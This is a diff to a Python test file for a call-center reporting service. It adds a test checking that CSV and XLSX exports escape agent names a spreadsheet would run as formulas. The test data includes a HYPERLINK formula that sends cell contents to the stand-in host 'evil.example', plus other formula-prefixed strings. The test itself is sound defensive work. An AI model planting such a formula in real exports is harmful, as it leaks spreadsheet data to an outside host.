@@ -36,6 +36,7 @@ from callcenter.web.security import USER_KEY, User
 TZ = ZoneInfo("Asia/Shanghai")
 T0 = datetime(2026, 3, 2, 9, 0, tzinfo=TZ).timestamp()
 TH = Thresholds(line_capacity=5)
+FORMULA_AGENTS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1)", "+1", "-2+3", "\tx")
 
 
 def created(call: str, at: float, channel: str = "") -> ChannelCreated:
@@ -117,6 +118,13 @@ async def client(tmp_path: Path) -> AsyncIterator[Any]:
     CallStore(engine).upsert_calls(
         [finished(n, "answered") for n in range(5)] + [finished(9, "abandoned", 40)]
     )
+    # The next day: agents whose names a spreadsheet would run as formulas.
+    for n, agent in enumerate(FORMULA_AGENTS):
+        record = finished(100 + n, "answered")
+        record.call_id, record.started_at = f"formula{n}", T0 + 86400 + n
+        record.queue_joined_at, record.ended_at = T0 + 86400 + n + 5, T0 + 86400 + n + 100
+        record.agent = agent
+        CallStore(engine).upsert_calls([record])
     live = LiveCounters(thresholds=TH)
     live.apply(created("x", T0))
     live.call_finished(finished(1, "answered"))
@@ -178,6 +186,22 @@ async def test_reports_json_csv_xlsx_and_roles(client: Any) -> None:
         assert response.status == 401
     async with session.get("/metrics") as response:  # the scraper needs no sign-in
         assert response.status == 200
+
+
+async def test_exported_cells_never_start_a_formula(client: Any) -> None:
+    session, _ = client
+    query = "/api/reports?from=2026-03-03&to=2026-03-03&by=agent&lang=en"
+    async with session.get(query + "&format=csv") as response:
+        rows = list(csv.reader(io.StringIO((await response.read()).decode("utf-8-sig"))))
+    groups = {row[0] for row in rows[1:] if row}
+    assert {"'" + agent for agent in FORMULA_AGENTS} <= groups
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)
+    async with session.get(query + "&format=xlsx") as response:
+        sheet = load_workbook(io.BytesIO(await response.read()))["report"]
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
+    assert {"'" + agent for agent in FORMULA_AGENTS} <= {c.value for c in cells}
+    assert all(c.data_type != "f" for c in cells)
+    assert any(isinstance(c.value, int) and c.value == 1 for c in cells)  # numbers stay numbers
 
 
 async def test_prometheus_exposition(client: Any) -> None:
